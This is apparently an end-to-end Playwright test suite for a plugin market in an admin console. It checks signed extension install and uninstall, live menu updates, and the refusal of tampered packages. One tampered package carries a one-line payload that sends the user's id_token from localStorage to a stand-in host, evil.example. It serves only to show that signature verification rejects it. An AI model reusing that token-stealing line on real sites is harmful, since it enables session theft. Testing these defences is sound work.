/**
 * The integrator's path and the admin's, end to end: `tessera-ext create` scaffolds an extension with a screen and a
 * widget (outside the workspace), `keygen`, `build` and `pack --sign` it → upload it on the plugin market page as SYS_ADMIN
 * (refused while its publisher key is untrusted, with the reason on the page; installed once the key is trusted on
 * the same page) → a second console, a tenant admin's, already open, shows the new menu entry and the widget without
 * a reload (pushed over the realtime socket) → uninstall on the installed-plugins page removes them there, and the
 * open page says the extension was removed.
 */
import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { SYS_ADMIN, TENANT_ADMIN } from './support/accounts';
import { apiCall, apiLogin } from './support/api';
import { coreText } from './support/locales';
import { hashPath, loginViaApi } from './support/login';
import { buildMarketPack, cli, publisherKey, type BuiltPack } from './support/market-pack';

const ID = 'acme.market-meter';
/** The scaffold names its menu entry after the extension, in every language. */
const TITLE = 'Market Meter';

/**
 * The README's integrator steps, literally: create → (limit the menu entry to tenant authorities in extension.json)
 * → build → pack --sign. Returns the package file.
 */
function scaffoldSignedPack(work: string, keyFile: string): string {
  cli(['create', ID], work);
  const dir = join(work, 'acme-market-meter');
  const manifestFile = join(dir, 'extension.json');
  const manifest = JSON.parse(readFileSync(manifestFile, 'utf8'));
  manifest.contributes.views[0].menu.authorities = ['TENANT_ADMIN', 'TENANT_USER'];
  writeFileSync(manifestFile, JSON.stringify(manifest, null, 2));
  expect(cli(['build'], dir)).toContain(`built ${ID}@0.1.0`);
  expect(cli(['pack', '--sign', keyFile], dir)).toContain('(signed)');
  return join(dir, `${ID}-0.1.0.tessera.json`);
}

async function watchReloads(page: Page): Promise<() => Promise<{ loads: number; marker: unknown }>> {
  let loads = 0;
  page.on('load', () => loads++);
  await page.evaluate(() => ((window as unknown as { __marker: string }).__marker = 'before-install'));
  return async () => ({ loads, marker: await page.evaluate(() => (window as unknown as { __marker?: string }).__marker) });
}

test.describe('plugin market', () => {
  let work: string | undefined;
  test.afterAll(async ({ request }) => {
    const admin = await apiLogin(request, SYS_ADMIN);
    await apiCall(request, admin.token, '/extensions/uninstall', { id: ID });
    if (work) rmSync(work, { recursive: true, force: true });
  });

  test('a signed package uploaded on the market page reaches an open tenant console at once; uninstall removes it', async ({ page, browser, request }) => {
    test.setTimeout(120_000);
    const started = Date.now();
    work = mkdtempSync(join(tmpdir(), 'tessera-market-e2e-'));
    const key = publisherKey(work);
    const file = scaffoldSignedPack(work, key.file);
    const pack = JSON.parse(readFileSync(file, 'utf8')) as BuiltPack['pack'];
    expect(pack.signature?.publicKey).toBe(key.publicKey);
    expect(Object.keys(pack.integrity ?? {})).toEqual(expect.arrayContaining(['extension.json', 'index.js', 'locales/en.json']));

    // The tenant admin's console is open first, on the home page (Chinese, the default language).
    const tenantContext = await browser.newContext();
    const tenant = await tenantContext.newPage();
    await loginViaApi(tenant, request, TENANT_ADMIN, '/home');
    const tenantReloads = await watchReloads(tenant);
    const appDir = coreText('ch', 'menu.applicationManagement')!;
    const leaf = tenant.locator('.tessera-side-menu a.tessera-menu-entry', { hasText: TITLE });
    await expect(leaf).toHaveCount(0);

    // The SYS_ADMIN opens the plugin market page (English).
    await loginViaApi(page, request, SYS_ADMIN, '/apps/market');
    await page.locator('.tessera-top-bar .tessera-language-switch select').selectOption('en');
    // Requests carry the console language once it has switched (the server words its refusals in it).
    await expect(page.getByTestId('market-store').locator('h3').first()).toHaveText('Plugin market');

    // Untrusted publisher: refused, and the page says why.
    await page.locator('#market-upload').setInputFiles(file);
    const result = page.getByTestId('install-result');
    await expect(result).toContainText('which is not a trusted publisher key');
    await expect(leaf).toHaveCount(0);

    // Trust the key on the same page, upload again.
    await page.getByTestId('key-name').fill('Acme e2e');
    await page.getByTestId('key-value').fill(key.publicKey);
    await page.getByTestId('key-add').click();
    await expect(page.getByTestId('market-keys')).toContainText('Acme e2e');
    await page.locator('#market-upload').setInputFiles(file);
    await expect(result).toContainText(`${ID} 0.1.0 installed`);
    const installedAt = Date.now();

    // The tenant console learns of it over the realtime socket: the menu entry appears without a reload.
    await expect(leaf).toHaveCount(1, { timeout: 5_000 });
    const seenAfterMs = Date.now() - installedAt;
    test.info().annotations.push({ type: 'push latency (ms, upper bound)', description: String(seenAfterMs) });
    if (!(await leaf.isVisible())) await tenant.locator('.tessera-side-menu button.tessera-menu-entry', { hasText: appDir }).click();
    await leaf.click();
    await expect.poll(() => hashPath(tenant)).toBe('/acme/market-meter');
    await expect(tenant.locator('.tessera-view [data-testid=scaffold-main]')).toBeVisible();
    // The scaffold's own widget, drawn through the outlet inside its owner's boundary.
    await expect(tenant.getByTestId('scaffold-widget')).toContainText('21.5');
    console.log(`README path: scaffold → keygen → build → pack → upload → tenant sees the screen: ${Date.now() - started} ms`);
    // The menu entry is limited to tenant authorities: the SYS_ADMIN's menu does not show it.
    await expect(page.locator('.tessera-side-menu a.tessera-menu-entry', { hasText: TITLE })).toHaveCount(0);

    // Uninstall on the installed-plugins page, confirmed.
    await page.goto('/#/apps/installed');
    const row = page.locator(`tr[data-extension="${ID}"]`);
    await expect(row).toContainText(TITLE);
    await expect(row).toContainText('Signed by Acme e2e');
    await expect(row).toContainText('acmeMarketMeterValue');
    await row.getByTestId('uninstall').click();
    await page.getByRole('dialog').getByRole('button', { name: 'Uninstall', exact: true }).click();
    await expect(row).toHaveCount(0);

    // The tenant's open page says the extension was removed, and its menu entry is gone — still without a reload.
    await expect(tenant.locator('.tessera-extension-removed')).toBeVisible({ timeout: 5_000 });
    await expect(tenant.locator('.tessera-extension-removed')).toContainText(TITLE);
    await expect(leaf).toHaveCount(0);
    expect(await tenantReloads()).toEqual({ loads: 0, marker: 'before-install' });
    await tenantContext.close();
  });

  test('tampered, re-hashed, colliding and mismatched packages are refused on the market page with the reason', async ({ page, request }) => {
    test.setTimeout(120_000);
    const key = publisherKey();
    const admin = await apiLogin(request, SYS_ADMIN);
    expect((await apiCall(request, admin.token, '/market/keys/add', { name: 'Acme tamper', public_key: key.publicKey })).code).toBe(200);
    const good = buildMarketPack('market-meter', { sign: key });
    const work = mkdtempSync(join(tmpdir(), 'tessera-tampered-'));
    const sri = (b: Buffer) => `sha384-${createHash('sha384').update(b).digest('base64')}`;
    const write = (name: string, pack: unknown) => {
      const file = join(work, `${name}.tessera.json`);
      writeFileSync(file, JSON.stringify(pack));
      return file;
    };
    const p = good.pack;
    // A locale file changed after signing (integrity map untouched).
    const locale = write('locale', { ...p, files: { ...p.files, 'locales/en.json': Buffer.from('{"title":"pwned"}').toString('base64') } });
    // The entry changed and re-hashed everywhere (manifest, packed extension.json, integrity map), the old signature kept.
    const evil = Buffer.from('fetch("https://evil.example/?t=" + localStorage.id_token);');
    const manifest = { ...p.manifest, integrity: sri(evil) };
    const manifestBytes = Buffer.from(JSON.stringify(manifest));
    const rehashed = write('rehashed', {
      ...p,
      manifest,
      files: { ...p.files, 'index.js': evil.toString('base64'), 'extension.json': manifestBytes.toString('base64') },
      integrity: { ...p.integrity, 'index.js': sri(evil), 'extension.json': sri(manifestBytes) },
    });
    // The outer manifest differs from the packed extension.json.
    const mismatch = write('mismatch', { ...p, manifest: { ...p.manifest, displayName: { en: 'Someone else' } } });
    // A correctly signed package claiming the market's own view path.
    const thiefDir = join(dirname(good.dir), 'thief');
    cli(['build', good.dir, '--out', thiefDir], good.dir);
    const thiefManifest = JSON.parse(readFileSync(join(thiefDir, 'extension.json'), 'utf8'));
    thiefManifest.id = 'acme.thief';
    thiefManifest.i18n.namespace = 'acme.thief';
    thiefManifest.contributes = { views: [{ id: 'meter', viewPath: '/pages/market/store' }] };
    writeFileSync(join(thiefDir, 'extension.json'), JSON.stringify(thiefManifest));
    cli(['pack', thiefDir, '--out', work, '--sign', key.file], thiefDir);

    await loginViaApi(page, request, SYS_ADMIN, '/apps/market');
    await page.locator('.tessera-top-bar .tessera-language-switch select').selectOption('en');
    // Requests carry the console language once it has switched (the server words its refusals in it).
    await expect(page.getByTestId('market-store').locator('h3').first()).toHaveText('Plugin market');
    const result = page.getByTestId('install-result');
    const refused = async (file: string, reason: string) => {
      await page.locator('#market-upload').setInputFiles(file);
      await expect(result).toContainText('was refused');
      await expect(result).toContainText(reason);
    };
    await refused(locale, 'files.locales/en.json: does not match its sha384 in the package integrity');
    await refused(rehashed, 'signature: does not verify');
    await refused(mismatch, 'manifest: differs from the packed extension.json');
    await refused(join(work, 'acme.thief-1.0.0.tessera.json'), 'The view path /pages/market/store is already provided by the extension tessera.market');
    const installed = await apiCall<Array<{ manifest: { id: string } }>>(request, admin.token, '/market/installed');
    expect(installed.data.map((e) => e.manifest.id)).not.toContain('acme.thief');
    expect(installed.data.map((e) => e.manifest.id)).not.toContain(ID);
    rmSync(work, { recursive: true, force: true });
    rmSync(dirname(good.dir), { recursive: true, force: true });
  });
});
